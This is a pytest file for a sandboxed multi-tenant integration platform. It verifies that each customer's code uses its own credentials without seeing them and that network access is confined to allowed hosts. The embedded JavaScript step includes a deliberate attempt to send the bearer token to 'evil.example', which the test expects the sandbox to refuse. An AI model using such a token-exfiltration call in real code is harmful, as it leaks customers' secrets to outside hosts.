"""Two customers' code in one project: each in jails of its own, with credentials that it uses and never sees."""

from __future__ import annotations

import json
import os
import tempfile
import threading
from collections.abc import AsyncIterator, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from turnout.config import RunnerSettings, Settings
from turnout.definition.loader import load_yaml_text
from turnout.local.platform import Platform
from turnout.model.execution import ExecutionRecord, Status
from turnout.plugins import load_plugins
from turnout.values import Value
from turnout_ecs.jail.building import build

DEFINITION = """\
integration: orders
connections: {erp: {connector: http, type: bearer}}
code: {hosts: ["127.0.0.1:%d"]}
flows:
  main:
    steps:
      - id: go
        connections: [erp]
        code: |
          export default async (input, context) => {
            const { base_url, token } = context.connections.erp;
            const answer = await fetch(`${base_url}/orders`, { headers: { authorization: `Bearer ${token}` } });
            let refused = "nothing";
            try {
              await fetch(`http://evil.example/${token}`);
            } catch (error) {
              refused = `${error.cause ?? error}`;
            }
            return { ...(await answer.json()), token, refused };
          };
      - {id: end, stop: {output: "${{ steps.go }}"}}
"""


@pytest.fixture(scope="module")
def jail() -> Iterator[Path]:
    if os.geteuid() != 0:
        pytest.skip("a jail is root's to build and to start: run the tests as root (`sudo make test`) to see this one")
    with tempfile.TemporaryDirectory(prefix="turnout-jail-") as name:
        directory = Path(name)
        directory.chmod(0o755)
        build(directory)
        yield directory


class Echo(ThreadingHTTPServer):
    """Says what it was sent, the credentials too."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.seen: list[tuple[str, str | None]] = []


class _Answer(BaseHTTPRequestHandler):
    server: Echo

    def do_GET(self) -> None:
        sent = self.headers.get("authorization")
        self.server.seen.append((self.path, sent))
        body = json.dumps({"echo": sent}).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *arguments: Any) -> None:
        """Quietly."""


@pytest.fixture
def erp() -> Iterator[Echo]:
    with Echo() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
async def platform(tmp_path: Path, jail: Path) -> AsyncIterator[Platform]:
    options = {"jail": str(jail), "warm_floor": 1, "openable": ["127.0.0.0/8"]}
    settings = Settings(root=tmp_path, runner=RunnerSettings(sandbox="chroot"), backends={"chroot": options})
    opened = await Platform.open(settings, load_plugins())
    try:
        await opened.check_tenancy()
        await opened.start_sandbox()
        yield opened
    finally:
        await opened.close()


async def ran(platform: Platform, erp: Echo, tenant: str) -> ExecutionRecord:
    instance = await platform.deploy(
        load_yaml_text(DEFINITION % erp.server_port),
        config={},
        connections={"erp": {"base_url": f"http://127.0.0.1:{erp.server_port}", "token": f"s3cret-of-{tenant}"}},
        name=f"orders-{tenant}",
        tenant=tenant,
    )
    record = await platform.record(await platform.run(instance, "main", Value({})))
    assert record is not None
    assert record.status is Status.SUCCEEDED, record.error
    return record


@pytest.mark.timeout(120)
async def test_each_customers_code_uses_its_own_credentials_and_sees_none(platform: Platform, erp: Echo) -> None:
    records = [await ran(platform, erp, tenant) for tenant in ("acme", "globex")]

    assert erp.seen == [("/orders", "Bearer s3cret-of-acme"), ("/orders", "Bearer s3cret-of-globex")]
    for record in records:
        assert record.output is not None
        output = json.loads(record.output.json)
        assert output["token"].startswith("turnout-secret-")
        assert output["echo"] == f"Bearer {output['token']}"
        assert "evil.example is not among this integration's hosts" in output["refused"]
        lines = [(line.level, line.message) for _, line in await platform.stores.records.logs(record.info.id)]
        assert not any("s3cret" in message for _, message in lines)
        assert any(
            level == "debug" and f"GET 127.0.0.1:{erp.server_port}/orders → 200" in message for level, message in lines
        )
        assert any(level == "warning" and "evil.example" in message for level, message in lines)


@pytest.mark.timeout(120)
async def test_the_record_says_what_stood_around_each(platform: Platform, erp: Echo) -> None:
    records = [await ran(platform, erp, tenant) for tenant in ("acme", "globex")]

    [one], [other] = (record.sandboxes for record in records)
    assert (one.sandbox, one.jobs, one.hosts) == ("chroot", 1, (f"127.0.0.1:{erp.server_port}",))
    assert {"chroot", "uid", "seccomp", "seal"} <= set(one.layers)
    assert one.uid != other.uid
    assert min(one.uid, other.uid) > 0
    assert one.peak_memory_bytes > 0
    assert one.cpu_ms > 0
